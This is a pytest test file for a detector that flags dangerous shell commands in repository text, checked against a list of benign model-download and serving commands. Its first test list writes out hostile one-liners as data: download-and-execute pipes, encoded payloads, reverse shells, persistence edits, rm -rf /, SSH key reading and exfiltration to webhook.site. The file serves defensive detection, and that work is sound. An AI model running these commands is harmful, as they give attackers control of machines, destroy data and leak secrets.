import pytest
from processor_time import at_most

from qaudit.static.repository.shell_text import commands_in


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://x.example/i.sh | sh", "wget -qO- http://x | sudo bash", "curl http://x | python3",
        "bash <(curl -s http://x)", "sh -c \"$(curl -fsSL http://x)\"", "echo aGk= | base64 -d | sh",
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "powershell -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')", "echo x >> ~/.bashrc", "(crontab -l) | crontab -",
        "rm -rf / --no-preserve-root", "chmod u+s /bin/x", "cat ~/.ssh/id_rsa", "curl -d @x https://webhook.site/a",
    ],
)  # fmt: skip
def test_what_nobody_should_run(line: str) -> None:
    assert [command.line for command in commands_in(f"fine\n{line}\n")][:1] == [2]


@pytest.mark.parametrize(
    "line",
    [
        "pip install -U transformers", "huggingface-cli download org/model --local-dir x", "./llama-cli -m model.gguf -p 'Hi'",
        "curl http://localhost:8000/v1/chat/completions -d '{}' | jq .", "wget https://huggingface.co/x/resolve/main/a.gguf",
        "ollama run model", "rm -rf ./build", "python convert.py --outtype f16", "docker run --gpus all -p 8080:80 image",
        "chmod +x llamafile", "vllm serve org/model --max-model-len 4096", "git lfs install", "export HF_TOKEN=x", "| a | b |",
    ],
)  # fmt: skip
def test_what_people_do_run(line: str) -> None:
    assert not list(commands_in(line))


def test_lines_of_any_length_take_no_time() -> None:
    with at_most(3):
        list(commands_in("curl " * 400_000 + "\n" + "nc -\n" * 40_000))
